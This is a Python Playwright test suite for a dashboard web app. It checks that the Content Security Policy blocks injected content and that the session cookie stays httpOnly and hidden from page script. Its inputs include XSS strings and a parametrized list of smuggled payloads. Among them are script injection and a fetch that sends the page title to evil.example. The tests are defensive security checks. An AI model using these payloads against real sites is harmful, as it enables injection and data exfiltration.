"""What the browser itself says of every page: nothing was refused, nothing mixed, and nobody reads the cookie."""

import re
import ssl
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme
from playwright.sync_api import Page, expect

from dashboard.pages import PAGES
from tests.browser.conftest import (
    Device,
    Server,
    add,
    free_port,
    quick_add,
    sign_in,
    sign_up_by_form,
)
from tests.browser.proxy import Proxy
from tests.browser.test_journeys import box, delete, edit, settled

REPORT = """addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
    console.error("violation", violatedDirective, blockedURI, sample));"""
REFUSED = re.compile(
    r"violation|Content Security Policy|Mixed Content|Permissions policy", re.IGNORECASE
)


def refusals(device: Device) -> list[str]:
    return [complaint for complaint in device.complaints if REFUSED.search(complaint)]


def the_cookie(device: Device) -> dict[str, Any]:
    (cookie,) = device.context.cookies()
    return dict(cookie)


@pytest.fixture
def watched(new_device: Callable[..., Device]) -> Callable[[Server], Device]:
    """Opens a device that complains of whatever its browser refuses to do."""

    def open_device(server: Server) -> Device:
        device = new_device(server, ignore_https_errors=True)
        device.context.add_init_script(REPORT)
        return device

    return open_device


@pytest.fixture
def secure_server(tmp_path: Path) -> Iterator[Server]:
    """A server behind a proxy that speaks https, with a certificate of its own."""
    # A name that browsers find on their own machine. On https, Reflex forgets the port of `localhost` itself.
    name = "cairn.localhost"
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert(name).configure_cert(tls)
    port = free_port()
    proxy = Proxy(port, tls).start()
    address = f"https://{name}:{proxy.port}"
    server = Server(tmp_path, None, port=port, public_url=address).start()
    yield server
    server.stop()
    proxy.stop()


def use_everything(page: Page) -> None:
    """Every page, and on them whatever draws, opens or loads something."""
    email = sign_up_by_form(page)
    add(page, "Milk", "<img src=x onerror=alert(1)>", "Bread")
    box(page, "Milk").click()
    edit(page, "Bread", Description="<script>alert(1)</script>")
    delete(page, "Milk")
    page.get_by_role("button", name="Undo").click()
    delete(page, "Bread")
    settled(page)
    for shown in PAGES:
        page.goto("/no-such-page" if shown.route == "404" else shown.route)
        page.get_by_role("heading", level=1).wait_for()
        page.wait_for_load_state("networkidle")
    for link, button in (
        ("reset-password", "Change password"),
        ("confirm-email", "This is my address"),
    ):
        page.goto(f"/{link}#used-before")
        for field in page.get_by_label("New password", exact=True).all():
            field.fill("four herons mend a kettle")
        page.get_by_role("button", name=button).click()
        page.get_by_text("This link was used before or is too old.").wait_for()
    page.goto("/settings")
    for theme in ("Light", "Dark"):
        page.get_by_text(theme, exact=True).first.click()
    page.goto("/dashboard?q=img")
    quick_add(page).wait_for()
    page.keyboard.press("?")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(re.compile("/sign-in"))
    sign_in(page, email, "not the password")
    page.get_by_text("Email or password is not right.").wait_for()
    sign_in(page, email)
    expect(page).to_have_url(re.compile("/dashboard"))
    page.goto("/api/docs")
    page.get_by_role("heading", level=1).wait_for()


def test_no_page_asks_for_what_the_policy_refuses(
    server: Server, watched: Callable[[Server], Device]
) -> None:
    device = watched(server)
    use_everything(device.page)
    assert refusals(device) == []
    # Each page is first drawn as it was built.
    assert not [complaint for complaint in device.complaints if "React error" in complaint]
    cookie = the_cookie(device)
    assert (cookie["name"], cookie["secure"]) == ("dashboard_session", False)
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/")
    assert device.page.evaluate("document.cookie") == ""


def test_nothing_is_refused_or_mixed_on_https_either(
    secure_server: Server, watched: Callable[[Server], Device]
) -> None:
    device = watched(secure_server)
    requests: list[str] = []
    device.page.on("request", lambda request: requests.append(request.url))
    device.page.on("websocket", lambda socket: requests.append(socket.url))
    use_everything(device.page)
    assert refusals(device) == []
    assert {url.partition(":")[0] for url in requests} <= {"https", "wss", "data"}
    assert any(url.startswith("wss:") for url in requests)
    cookie = the_cookie(device)
    assert (cookie["name"], cookie["secure"]) == ("__Host-dashboard_session", True)
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/")
    assert device.page.evaluate("document.cookie") == ""


@pytest.mark.parametrize(
    "smuggled",
    [
        "document.head.append(Object.assign(document.createElement('script'), {text: 'hacked = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"hacked = 1\">')",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/dashboard'}))",
        "setTimeout('hacked = 1')",
        "fetch('https://evil.example/?' + document.title).catch(() => 0)",
    ],
)
def test_what_somebody_smuggles_into_a_page_is_refused(
    server: Server, watched: Callable[[Server], Device], smuggled: str
) -> None:
    device = watched(server)
    device.page.goto("/sign-in")
    device.page.get_by_role("heading", level=1).wait_for()
    device.page.evaluate(f"() => {{ {smuggled} }}")
    device.page.wait_for_timeout(200)
    assert refusals(device)
    assert device.page.evaluate("typeof hacked") == "undefined"
